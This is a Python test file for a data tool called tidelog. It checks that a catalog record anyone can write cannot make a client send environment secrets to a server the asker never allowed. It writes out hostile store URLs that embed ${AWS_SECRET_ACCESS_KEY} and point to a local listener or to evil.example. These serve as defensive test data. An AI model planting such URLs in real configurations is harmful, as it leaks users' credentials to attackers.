"""A record of the catalog says where a view is kept, and whoever can write it chooses what it says. Nobody who asks for
the view sends anything there that he has not allowed.
"""

from __future__ import annotations

from argparse import Namespace
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

import tidelog as public
from cli.command import Command
from proving import proves
from tidelog.cli import apply, ask, sql, views
from tidelog.client.cluster import Cluster
from tidelog.client.metadata import TopicPartition
from tidelog.control.catalog import Editor
from tidelog.errors import TidelogError, UsageError
from tidelog.parts.children import ChildPart
from tidelog.pipelines.appliers import appliers_of
from tidelog.pipelines.placing import Target
from tidelog.pipelines.running import Settings
from tidelog.testing.broker import TestBroker
from tidelog.views import lifecycle
from tidelog.views.changes import Change, Stretch
from tidelog.views.stores.opening import open_store
from views.listening import Listener
from views.writing import REVENUE, make_topics

VIEW = "revenue"
NAME = "AWS_SECRET_ACCESS_KEY"
SECRET = "hush-hush-hush"


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


@pytest.fixture
def asked(
    tidelog_broker: TestBroker, listener: Listener, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> Iterator[str]:
    """The name of a view whose record has somebody's server in it; asked for from a folder without tidelog.toml."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv(NAME, SECRET)
    monkeypatch.setenv("PGPASSWORD", SECRET)
    monkeypatch.setenv("TIDELOG_BOOTSTRAP", tidelog_broker.bootstrap)
    with Cluster(tidelog_broker.bootstrap) as cluster:
        enter(cluster, VIEW, evil(listener))
    yield VIEW


def evil(listener: Listener) -> str:
    return f"postgresql://evil:${{{NAME}}}@127.0.0.1:{listener.port}/x?connect_timeout=5"


def enter(cluster: Cluster, name: str, url: str) -> None:
    """As anybody can write it: no command of ours checks what it says."""
    view = replace(lifecycle.new_view(name, app="shop", inputs=["orders"], stores=[]), stores=(url,))
    view = lifecycle.begin(view, REVENUE, "f1", 1)
    Editor(cluster, name).write(view)
    make_topics(cluster, view.generations[-1])


ASKING: dict[str, Callable[[str], Any]] = {
    "sql": lambda view: sql.run([f'select * from views."{view}"']),
    "tidelog.sql": lambda view: public.sql(f'select * from views."{view}"').fetchall(),
    "views show": lambda view: views.run(["show", view]),
    "views rows": lambda view: views.run(["rows", view]),
    "views get": lambda view: views.run(["get", view, "tea"]),
    "ask --view": lambda view: ask.run([view, "tea", "--view"]),
    "apply": lambda view: apply.run([view]),
    "apply --declared": lambda view: apply.run([view, "--declared", f"redis://evil.example/{view}"]),
}


@proves("hostile", "D7", "sql")
@pytest.mark.parametrize("way", ASKING)
def test_whoever_asks_for_a_view_sends_nothing_by_a_record_and_says_why(
    asked: str, listener: Listener, way: str, capsys: pytest.CaptureFixture[str]
) -> None:
    said = ""
    with suppress(SystemExit):
        try:
            ASKING[way](asked)
        except TidelogError as error:
            said = str(error)
    said += capsys.readouterr().out
    assert (listener.connections, listener.heard) == (0, b"")
    assert "__tidelog.views" in said and "allowed.stores" in said and "--allow-store" in said, said
    assert SECRET not in said
    if way != "apply --declared":
        assert f"send the environment variable {NAME} to 127.0.0.1:{listener.port}" in said


@proves("hostile", "D7", "sql")
def test_the_command_ends_with_one_line_that_says_what_to_write(
    asked: str, listener: Listener, tidelog_broker: TestBroker
) -> None:
    ran = Command(tidelog_broker.bootstrap)("sql", f'select * from views."{asked}"', **{NAME: SECRET})
    assert (ran.code, len(ran.err.splitlines()), ran.out) == (2, 1, "")
    assert f"send the environment variable {NAME} to 127.0.0.1:{listener.port}" in ran.err
    assert f'"allowed.stores" = ["{evil(listener)}"] under [app] in tidelog.toml' in ran.err
    assert listener.connections == 0


@proves("hostile", "D7", "sql")
@pytest.mark.parametrize("how", ["option", "environment", "file", "code"])
def test_what_the_asker_allows_is_opened_with_its_variables(
    asked: str, listener: Listener, how: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    url, query = evil(listener), f'select * from views."{asked}"'
    words, stores = [query], None
    if how == "option":
        words += ["--allow-store", url]
    elif how == "environment":
        monkeypatch.setenv("TIDELOG_ALLOWED_STORES", url)
    elif how == "file":
        Path("tidelog.toml").write_text(f'[app]\n"allowed.stores" = ["{url}"]\n')
    else:
        stores = [url]
    with pytest.raises(UsageError, match="no store that can be read here"):
        sql.run(words) if stores is None else public.sql(query, stores=stores)
    assert SECRET.encode() in listener.heard, "the asker's own wish"


@proves("hostile", "D7")
def test_the_askers_own_url_is_opened_as_ever(asked: str, listener: Listener) -> None:
    with pytest.raises(TidelogError):
        views.run(["rows", asked, "--store", evil(listener)])
    assert SECRET.encode() in listener.heard


@proves("D7", "sql")
def test_a_file_of_the_catalog_needs_no_setting(
    tidelog_broker: TestBroker, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("TIDELOG_BOOTSTRAP", tidelog_broker.bootstrap)
    url = f"sqlite:///{tmp_path}/views.db"
    with Cluster(tidelog_broker.bootstrap) as cluster:
        enter(cluster, VIEW, url)
    at = TopicPartition(f"{VIEW}.v1", 0)
    store, row = open_store(url, VIEW), {"product": "tea", "revenue": 7}
    store.prepare(1, REVENUE)
    store.apply(1, Stretch([Change(("tea",), row, None, at, 0, 0)], {at: 1}, None), before={}, show=True)
    store.close()
    assert sql.run([f'select product from views."{VIEW}"']) == 0
    assert "tea" in capsys.readouterr().out


@proves("hostile", "D7")
def test_a_run_gives_its_applier_a_store_of_the_catalog_as_what_it_is() -> None:
    own, others = "sqlite:////here/app.db", "postgresql://evil:${X}@evil.example/x"
    node = Namespace(name="revenue", output=Namespace(stores=()))
    target = Target(node, "app", "revenue.v1", "revenue.v1", "c", stores=(own, others))  # type: ignore[arg-type]
    settings = Settings("127.0.0.1:1", "c", store=own, allowed_stores=("redis://a/",))
    first, second = appliers_of(target, settings)
    assert isinstance(first, ChildPart) and isinstance(second, ChildPart)
    assert first.command[4:7] == ["revenue", "--store", own]
    assert second.command[4:9] == ["revenue", "--declared", others, "--allow-store", "redis://a/"]
    options = apply.parser().parse_args(second.command[4:])
    assert (options.store, options.declared, options.allowed_stores) == (None, others, ["redis://a/"])
